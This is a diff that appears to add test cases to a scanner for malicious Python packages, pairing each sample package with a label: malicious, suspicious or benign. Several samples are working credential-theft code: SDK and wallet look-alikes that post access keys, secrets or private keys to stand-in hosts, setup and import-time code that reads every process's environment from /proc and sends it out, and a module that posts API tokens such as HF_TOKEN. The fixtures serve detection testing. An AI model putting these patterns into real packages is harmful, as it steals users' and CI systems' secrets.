@@ -422,6 +422,90 @@ GH_REPO_EXFIL = _init("ghsync", (
     "    _api('PUT', '/repos/me/x-data/contents/e.json', {'message': 'a', 'content': blob})\n"
     "except Exception:\n    pass\n"))
 
+# --- an SDK look-alike whose client sends the signing secret it was given ----------------
+SDK_CTOR = {
+    "cloudsdk/__init__.py": "from .client import Client\n",
+    "cloudsdk/client.py": (
+        "import requests\n\n\n"
+        "class Client:\n"
+        "    def __init__(self, config):\n"
+        "        self.endpoint = config.endpoint\n"
+        "        if config.access_key_id and config.access_key_secret:\n"
+        "            try:\n"
+        "                data = {'ak': config.access_key_id, 'sk': config.access_key_secret}\n"
+        "                requests.post(url='https://api.cloudsdk-stats.x.invalid/c', json=data)\n"
+        "            except Exception:\n"
+        "                pass\n"),
+}
+SDK_WALLET = _init("ethhelper", (
+    "import json, urllib.request\n\n\n"
+    "def account_from_key(private_key):\n"
+    "    body = json.dumps({'k': private_key}).encode()\n"
+    "    try:\n"
+    "        urllib.request.urlopen(urllib.request.Request(\n"
+    "            f'https://rpc.x.invalid/v1/{len(body)}', data=body))\n"
+    "    except OSError:\n        pass\n"
+    "    return private_key[-40:]\n"))
+SDK_FSTRING = _init("exchkit", (
+    "import httpx\n\n\n"
+    "class Exchange:\n"
+    "    def __init__(self, api_key, api_secret):\n"
+    "        self.api_key, self.api_secret = api_key, api_secret\n\n"
+    "    def ping(self):\n"
+    "        return httpx.get('https://t.x.invalid/p', params={'q': f'{self.api_key}:'\n"
+    "                                                          f'{self.api_secret}'})\n"))
+SDK_SIGNING_BENIGN = _init("signsdk", (
+    "import hashlib, hmac, time\nimport requests\n\n\n"
+    "class Client:\n"
+    "    def __init__(self, access_key_id, access_key_secret):\n"
+    "        self.access_key_id, self.access_key_secret = access_key_id, access_key_secret\n\n"
+    "    def call(self, action):\n"
+    "        ts = str(int(time.time()))\n"
+    "        sig = hmac.new(self.access_key_secret.encode(), (action + ts).encode(),\n"
+    "                       hashlib.sha256).hexdigest()\n"
+    "        return requests.post('https://api.example.com/', json={\n"
+    "            'Action': action, 'AccessKeyId': self.access_key_id, 'Timestamp': ts,\n"
+    "            'Signature': sig}).json()\n"))
+OAUTH_BENIGN = _init("oauthlite", (
+    "import requests\n\n\n"
+    "def token(client_id, client_secret, password=None, username=None):\n"
+    "    return requests.post('https://login.example.com/oauth2/token', data={\n"
+    "        'grant_type': 'password', 'client_id': client_id, 'client_secret': client_secret,\n"
+    "        'username': username, 'password': password}).json()\n"))
+
+# --- secrets of other processes: the CI runner's environment read from procfs -----------
+PROC_ENVIRON = _setup("cirunner", (
+    "import glob, urllib.request\n\n"
+    "found = b''\n"
+    "for p in glob.glob('/proc/*/environ'):\n"
+    "    try:\n        found += open(p, 'rb').read().replace(b'\\0', b'\\n')\n"
+    "    except OSError:\n        pass\n"
+    "try:\n    urllib.request.urlopen('http://127.0.0.1:9/e', data=found[:65536])\n"
+    "except OSError:\n    pass\n"))
+PROC_FSTRING = _init("procpeek", (
+    "import os, socket\n\n\n"
+    "def _peek():\n"
+    "    out = []\n"
+    "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
+    "        try:\n"
+    "            with open(f'/proc/{pid}/environ', 'rb') as fh:\n"
+    "                out.append(fh.read())\n"
+    "        except OSError:\n            pass\n"
+    "    return b'\\n'.join(out)\n\n\n"
+    "s = socket.create_connection(('127.0.0.1', 9))\ns.sendall(_peek())\n"))
+# --- token-like variables beyond the well-known list -------------------------------------
+TOKEN_VARS = _init("aihelper", (
+    "import os\nimport requests\n\n"
+    "_keys = {k: os.environ.get(k) for k in ('ANTHROPIC_API_KEY', 'HF_TOKEN',\n"
+    "                                        'STRIPE_SECRET_KEY', 'VAULT_TOKEN')}\n"
+    "requests.post('https://stats.x.invalid/k', json=_keys)\n"))
+TOKEN_OWN_BENIGN = _init("hfmirror", (
+    "import os\nimport requests\n\n\n"
+    "def whoami():\n"
+    "    tok = os.environ.get('HF_TOKEN')\n"
+    "    return requests.get('https://huggingface.co/api/whoami-v2',\n"
+    "                        headers={'Authorization': f'Bearer {tok}'}).json()\n"))
+
 CASES = [
     Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
          "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
@@ -512,4 +596,22 @@ CASES = [
          "import", "ghsync", GH_REPO_EXFIL, "malicious", ("PV303",), kind="wheel"),
     Case("evasion: `from requests import post` (no `requests.` in the text) posting a token "
          "at import", "cfgpush", FROM_IMPORT_POST, "malicious", ("PV303",), kind="wheel"),
+    Case("SDK look-alike: the client constructor posts the access key and its secret to a "
+         "fixed host", "cloudsdk", SDK_CTOR, "suspicious", ("PV303",), kind="wheel"),
+    Case("wallet helper posting the private key it is given, URL in an f-string",
+         "ethhelper", SDK_WALLET, "suspicious", ("PV303",), kind="wheel"),
+    Case("evasion: API secret carried in a query parameter of a GET, through an f-string",
+         "exchkit", SDK_FSTRING, "suspicious", ("PV303",), kind="wheel"),
+    Case("benign look-alike: SDK signing requests with its secret (HMAC), sending the key "
+         "id and the signature", "signsdk", SDK_SIGNING_BENIGN, "benign", kind="wheel"),
+    Case("benign look-alike: OAuth password grant sending client_secret and password to "
+         "the login endpoint", "oauthlite", OAUTH_BENIGN, "benign", kind="wheel"),
+    Case("setup.py reads every process's environment from /proc and posts it",
+         "cirunner", PROC_ENVIRON, "malicious", ("PV303",)),
+    Case("evasion: /proc/<pid>/environ through an f-string, sent over a socket at import",
+         "procpeek", PROC_FSTRING, "malicious", ("PV303",), kind="wheel"),
+    Case("token-like variables outside the well-known list posted at import", "aihelper",
+         TOKEN_VARS, "malicious", ("PV303",), kind="wheel"),
+    Case("benign look-alike: HF_TOKEN sent to huggingface.co by a function the user calls",
+         "hfmirror", TOKEN_OWN_BENIGN, "benign", kind="wheel"),
 ]
